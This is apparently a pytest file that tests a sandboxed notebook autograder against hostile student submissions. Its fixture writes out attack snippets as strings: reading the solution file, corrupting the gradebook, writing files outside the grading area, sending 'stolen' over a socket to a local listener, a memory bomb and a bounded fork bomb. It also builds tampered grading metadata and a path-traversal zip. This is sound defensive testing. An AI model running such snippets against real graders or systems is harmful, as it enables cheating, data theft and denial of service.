"""Hostile submissions graded by the real pipeline, in the sandbox.

Each hostile student answers exercise 2 honestly (3 points) and puts an attack in exercise 1's
answer cell next to a wrong ``square``; an attack that worked would show as extra points, a
file written outside the grading area, a connection received, a broken gradebook, or a huge
feedback page. The batch must finish, every student gets only the points of honest work, the
honest students' grades are unchanged, and the summary names what happened.

Not covered yet (see the notes of the issue on hostile submissions): answers that monkeypatch the
checking code (numpy.allclose, autograder.checks) inside the kernel.
"""

from __future__ import annotations

import copy
import os
import shutil
import socket
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import nbformat
import pytest

from autograder.course import REPOSITORY, Assignment
from autograder.grading import grade_submissions
from autograder.release import release
from autograder.samples import answered, with_answer, write
from autograder.sandbox import find_bwrap, pids_cgroup_root
from autograder.submissions import collect, unpack

FIXTURE = Path(__file__).parent / "fixtures" / "tiny"
WRONG_SQUARE = "\ndef square(x):\n    return 0\n"

pytestmark = pytest.mark.skipif(
    find_bwrap() is None and not os.environ.get("CI"),
    reason="bubblewrap (bwrap) is not installed; .ci/run installs it",
)


@pytest.fixture(scope="module")
def listener():
    """A TCP server on localhost that records any connection a kernel manages to make."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connection, _ = server.accept()
                received.append(connection.recv(100))
                connection.close()
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, listener):
    port, _ = listener
    root = tmp_path_factory.mktemp("course")
    shutil.copytree(FIXTURE, root / "solutions" / "tiny")
    assignment = Assignment("tiny", root / "solutions" / "tiny")
    released = release(assignment, root)[0]
    source = nbformat.read(assignment.source_dir / "tiny.ipynb", as_version=4)
    honest = answered(nbformat.read(released, as_version=4), source, ["ex1_square", "ex2_cube"])
    solution_file = assignment.source_dir / "tiny.ipynb"
    # outside the grading area and outside /tmp (the kernel's /tmp is private anyway)
    outside = REPOSITORY / ".redteam_written_outside.txt"
    run = tmp_path_factory.mktemp("run")
    attacks = {
        "reads_solutions": (
            f"text = open({str(solution_file)!r}).read()\n"
            "def square(x):\n    return x * x  # copied from the solution it read\n"),
        "writes_gradebook": (
            "import glob\n"
            f"for path in glob.glob({str(run)!r} + '/**/gradebook.db', recursive=True):\n"
            "    open(path, 'wb').write(b'garbage')\n" + WRONG_SQUARE),
        "writes_outside": f"open({str(outside)!r}, 'w').write('pwned')\n" + WRONG_SQUARE,
        "socket": (
            "import socket\n"
            f"socket.create_connection(('127.0.0.1', {port}), timeout=2).send(b'stolen')\n"
            + WRONG_SQUARE),
        "memory_bomb": "hog = bytearray(50 * 1024**3)\n" + WRONG_SQUARE,
        "prints_100_mb": "print('x' * 100_000_000)\n" + WRONG_SQUARE,
        "huge_file": "open('big.bin', 'wb').write(b'0' * 200 * 1024**2)\n" + WRONG_SQUARE,
        # bounded, so that it would be harmless even if the sandbox failed: 300 children that
        # sleep 5 s; the kernel's process limit (64) stops it long before
        "fork_bomb": (
            "import os, time\n"
            "for _ in range(300):\n"
            "    if os.fork() == 0:\n"
            "        time.sleep(5)\n"
            "        os._exit(0)\n" + WRONG_SQUARE),
    }
    folder = tmp_path_factory.mktemp("submissions")
    write(honest, folder / "honest_1" / "tiny.ipynb")
    write(honest, folder / "honest_2" / "tiny.ipynb")
    for student, code in attacks.items():
        write(with_answer(honest, "ex1_square", code), folder / student / "tiny.ipynb")
    # tampering with the notebook itself: honest answers to exercise 2 only (3 points)
    only_cube = answered(nbformat.read(released, as_version=4), source, ["ex2_cube"])
    inflated = copy.deepcopy(only_cube)
    for cell in inflated.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "test_ex1_square":
            meta["points"] = 100  # more points for the test
        if meta.get("grade_id") == "ex1_square":
            meta.update(grade=True, solution=False, locked=True, points=50)  # answer as a test
    write(inflated, folder / "edits_metadata" / "tiny.ipynb")
    duplicated = copy.deepcopy(only_cube)
    cube_test = next(c for c in duplicated.cells
                     if c.metadata.get("nbgrader", {}).get("grade_id") == "test_ex2_cube")
    for number in range(5):  # as JupyterLab duplicates a cell: same content, a new cell id
        twin = copy.deepcopy(cube_test)
        twin["id"] = f"duplicate-{number}"
        duplicated.cells.append(twin)
    write(duplicated, folder / "duplicates_cells" / "tiny.ipynb")
    emptied = copy.deepcopy(only_cube)
    emptied.cells = []
    write(emptied, folder / "deletes_all_cells" / "tiny.ipynb")
    (folder / "empty_file").mkdir()
    (folder / "empty_file" / "tiny.ipynb").write_bytes(b"")
    padded = copy.deepcopy(only_cube)  # a 200 MB notebook: a huge saved output
    padded.cells[2].outputs = [nbformat.v4.new_output("stream", name="stdout",
                                                      text="y" * 200 * 1024**2)]
    write(padded, folder / "huge_notebook" / "tiny.ipynb")
    try:
        results = grade_submissions(assignment, collect(folder, assignment), run / "nbgrader",
                                    workers=4, timeout=60, cell_timeout=20)
        yield {r.student_id: r for r in results}, run, outside.exists()
    finally:
        outside.unlink(missing_ok=True)


def test_honest_students_are_unaffected(graded):
    results, _, _ = graded
    assert results["honest_1"].score == results["honest_2"].score == 8
    assert results["honest_1"].problems == []


@pytest.mark.parametrize("student", ["reads_solutions", "writes_gradebook", "writes_outside",
                                     "socket", "memory_bomb", "prints_100_mb", "huge_file",
                                     "fork_bomb"])
def test_each_attack_earns_only_the_honest_points(graded, student):
    results, _, _ = graded
    assert results[student].graded
    assert results[student].score == 3, results[student].problems


@pytest.mark.parametrize("student, score", [("edits_metadata", 3), ("duplicates_cells", 3),
                                            ("deletes_all_cells", 0), ("huge_notebook", 3),
                                            ("empty_file", 0)])
def test_tampering_with_the_notebook_earns_nothing(graded, student, score):
    results, _, _ = graded
    assert results[student].score == score, results[student].problems
    assert results[student].max_score == 8


def test_an_empty_file_is_reported(graded):
    results, _, _ = graded
    assert any("not a valid notebook" in p for p in results["empty_file"].problems)


def test_the_attacks_had_no_effect_outside(graded, listener):
    _, run, written_outside = graded
    _, received = listener
    assert not written_outside
    assert received == []
    gradebook = run / "nbgrader" / "gradebook.db"
    assert gradebook.read_bytes()[:15] == b"SQLite format 3"


def test_the_summary_names_what_happened(graded):
    results, _, _ = graded
    assert any("out of memory" in p for p in results["memory_bomb"].problems)
    assert any("larger than the grader's limit" in p for p in results["huge_file"].problems)


@pytest.mark.skipif(pids_cgroup_root() is None,
                    reason="no pids control group can be created here: no process limit")
def test_the_fork_bomb_hit_the_process_limit(graded):
    results, _, _ = graded
    assert any("limit on processes" in p for p in results["fork_bomb"].problems)


def test_huge_output_is_cut_in_the_graded_notebook_and_feedback(graded):
    _, run, _ = graded
    notebook = run / "nbgrader" / "autograded" / "prints_100_mb" / "tiny" / "tiny.ipynb"
    assert notebook.stat().st_size < 1024**2
    page = run / "nbgrader" / "feedback" / "prints_100_mb" / "tiny" / "tiny.html"
    assert page.stat().st_size < 2 * 1024**2
    assert "more characters cut by the grader" in notebook.read_text()


def test_zip_members_with_path_tricks_are_not_extracted(tmp_path):
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("alice/tiny.ipynb", "{}")
        z.writestr("../../escaped.ipynb", "{}")
        z.writestr("/abs/escaped.ipynb", "{}")
    folder = unpack(archive, tmp_path / "unpacked")
    assert (folder / "alice" / "tiny.ipynb").exists()
    assert not (tmp_path.parent / "escaped.ipynb").exists()
    assert not list(tmp_path.rglob("escaped.ipynb"))


def test_without_bwrap_grade_refuses_unless_told(tmp_path):
    shutil.copytree(FIXTURE, tmp_path / "solutions" / "tiny")
    (tmp_path / "subs" / "alice").mkdir(parents=True)
    shutil.copy(FIXTURE / "tiny.ipynb", tmp_path / "subs" / "alice" / "tiny.ipynb")
    no_bwrap = dict(os.environ, PATH=str(Path(sys.executable).parent))
    command = [sys.executable, "-m", "autograder", "grade", "tiny", str(tmp_path / "subs"),
               "--course-dir", str(tmp_path), "--out", str(tmp_path / "out"), "--no-progress"]
    refused = subprocess.run(command, capture_output=True, text=True, env=no_bwrap, timeout=300)
    assert refused.returncode == 2 and "bubblewrap" in refused.stderr
    allowed = subprocess.run([*command, "--no-sandbox"], capture_output=True, text=True,
                             env=no_bwrap, timeout=300)
    assert allowed.returncode == 0, allowed.stderr[-1500:]
    assert "graded (unsandboxed)" in (tmp_path / "out" / "grades.csv").read_text()
